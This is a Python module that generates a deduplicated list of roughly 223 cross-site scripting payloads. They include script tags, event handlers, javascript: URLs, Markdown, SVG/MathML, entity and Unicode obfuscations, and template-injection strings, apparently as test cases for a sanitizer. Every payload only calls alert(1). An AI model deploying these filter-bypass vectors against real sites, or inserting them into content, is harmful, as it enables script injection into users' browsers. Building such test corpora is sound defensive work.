"""223 attempts to get a script to run: markup, attributes, addresses, Markdown, SVG, entities, Unicode."""

from __future__ import annotations

_CALLS = ("alert(1)", "alert`1`", "(alert)(1)", "top['al'+'ert'](1)", "self.alert?.(1)")
_ELEMENTS = (
    *("img", "svg", "video", "audio", "body", "details", "iframe", "object", "embed", "input"),
    *("select", "textarea", "marquee", "style", "link", "meta", "base", "form", "math", "script"),
)
_HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart"),
    *("onpointerenter", "onbeforeprint", "onhashchange", "oncut", "onwheel", "onscroll", "oninput"),
)
_SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        " javascript:",
        "\x01javascript:",
    ),
    *("javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "vbscript:", "data:text/html,"),
    *("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#", "livescript:", "blob:"),
)
_ESCAPES = (
    *(
        '">',
        "'>",
        "-->",
        "]]>",
        "*/",
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "</option>",
    ),
    *(
        "</select>",
        "</a>",
        "</blockquote>",
        "</noscript>",
        "</template>",
        "</svg>",
        "</math>",
        "--!>",
    ),
)
_SCRIPTS = (
    "<script>{0}</script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<script >{0}</script >",
    "<script/x>{0}</script>",
    "<script\n>{0}</script>",
    "<script type=module>{0}</script>",
    "<script src=data:text/javascript,{0}></script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<<script>{0}//<</script>",
    "<script>{0}<!--",
)
_MARKDOWN = (
    "[x]({0}alert(1))",
    "[x](<{0}alert(1)>)",
    "![x]({0}alert(1))",
    '[x]({0}alert(1) "t")',
    "[x][r]\n\n[r]: {0}alert(1)",
    "<{0}alert(1)>",
)
_SVG = (
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#x /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
)
_ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&lt;img src=x onerror=alert(1)&gt",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=x onerror=&#97;lert(1)>",
)
_UNICODE = (
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bascript\u02ba onload=alert(1)",
    "<img\u2028src=x\u2029onerror=alert(1)>",
    "<img src=x\u00a0onerror=alert(1)>",
    "<\u200bscript>alert(1)</script>",
    "<scr\u00adipt>alert(1)</script>",
    "\u202e>tpircs<\u202c<script>alert(1)</script>",
    "<img src=x one\u0301rror=alert(1) onerror=alert(1)>",
    "<\U0001d4c8cript>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<img src=x onerror\u3000=alert(1)>",
    "\u2066<script>\u2069alert(1)</script>",
)
_TEMPLATES = (
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<x contenteditable onblur=alert(1) autofocus>",
    "<!--><img src=x onerror=alert(1)>-->",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{%raw%}<script>alert(1)</script>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\htmlData{onclick=alert(1)}{x}$",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
)


def _made() -> tuple[str, ...]:
    scripts = [script.format(call) for script in _SCRIPTS for call in _CALLS]
    scripts += [f"<{element} src=x onerror=alert(1) onload=alert(1)>" for element in _ELEMENTS]
    scripts += [f"<img src=x {handler}=alert(1) autofocus tabindex=0>" for handler in _HANDLERS]
    scripts += [f'x" {handler}="alert(1)" y="' for handler in _HANDLERS]
    scripts += [f'<a href="{scheme}alert(1)">x</a>' for scheme in _SCHEMES]
    scripts += [f"{escape}<img src=x onerror=alert(1)>" for escape in _ESCAPES]
    scripts += [_MARKDOWN[n % len(_MARKDOWN)].format(scheme) for n, scheme in enumerate(_SCHEMES)]
    scripts += [_MARKDOWN[n % len(_MARKDOWN)].format("javascript:") for n in range(len(_MARKDOWN))]
    scripts += [f'<iframe srcdoc="<script>{call}</script>">' for call in _CALLS]
    scripts += [f"<form action=javascript:{call}><button>x</button></form>" for call in _CALLS]
    scripts += [f"<style>@import 'javascript:{call}';</style>" for call in _CALLS]
    scripts += [f"<meta http-equiv=refresh content='0;url=javascript:{call}'>" for call in _CALLS]
    scripts += [f"<object data=javascript:{call}></object>" for call in _CALLS]
    return (*scripts, *_SVG, *_ENTITIES, *_UNICODE, *_TEMPLATES)


CASES = tuple(dict.fromkeys(_made()))
"""Each of them once."""
